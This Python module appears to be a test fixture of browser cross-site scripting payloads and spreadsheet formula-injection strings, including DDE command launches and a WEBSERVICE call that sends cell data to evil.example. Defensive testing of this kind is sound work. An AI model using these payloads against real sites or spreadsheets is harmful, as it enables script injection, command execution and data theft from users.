"""Words that a browser or a spreadsheet would run if they reached it as they are."""

HTML = (
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<!--<script>",
    "<ScRiPt src=//evil.example></sCrIpT>", "<script\x0c>alert(1)</script>", "<<script>alert(1)//",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>', "'><img onerror=alert(1) src=x>", '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)", "`onmouseover=alert(1)", "<svg/onload=alert(1)>",
    "'><svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math href=javascript:alert(1)>x</math>", "<a href='javascript:alert(1)'>x</a>",
    "<a href=javascript:alert(1)>x</a>", "<a href=java&#115;cript:alert(1)>x</a>",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)",
    "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>", "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=//evil.example></object>",
    "<embed src=//evil.example>", "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content=0>",
    "<style>*{display:none}</style>", "<style>@import '//evil.example'</style>",
    "<form action=//evil.example><input></form>", "<input onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>", "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)", "\\u003cscript\\u003e",
    "＜script＞alert(1)＜/script＞",
)  # fmt: skip

FORMULAS = (
    "=1+1", "=A1", "=HYPERLINK(\"http://evil.example\",\"点\")", "=cmd|'/c calc'!A1",
    "=cmd|' /C powershell'!A0", "=WEBSERVICE(\"http://evil.example/\"&A1)",
    "=IMPORTXML(\"http://evil.example\",\"//a\")", "=IMPORTDATA(\"http://evil.example\")",
    "=IMAGE(\"http://evil.example/x.png\")", "=EXEC(\"calc\")", "=DDE(\"cmd\",\"/c calc\",\"x\")",
    "='file:///etc/passwd'#$passwd.A1", "=(1)", "=\"a\"&A1", "={1;2}", "==1+1", "= 1+1",
    "+1+1", "+A1", "+cmd|'/c calc'!A1", "+HYPERLINK(\"http://evil.example\")", "-1+1", "-A1",
    "-2+3+cmd|'/c calc'!A1", "-1*cmd|'/c calc'!A1", "@SUM(A1)", "@SUM(1+1)*cmd|'/c calc'!A1",
    "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1+cmd|'/c calc'!A1", "－A1", "＠SUM(A1)",
    "%0A-3+3+cmd|'/c calc'!A1", "0;=1+1", "\"=1+1", ",=1+1",
)  # fmt: skip
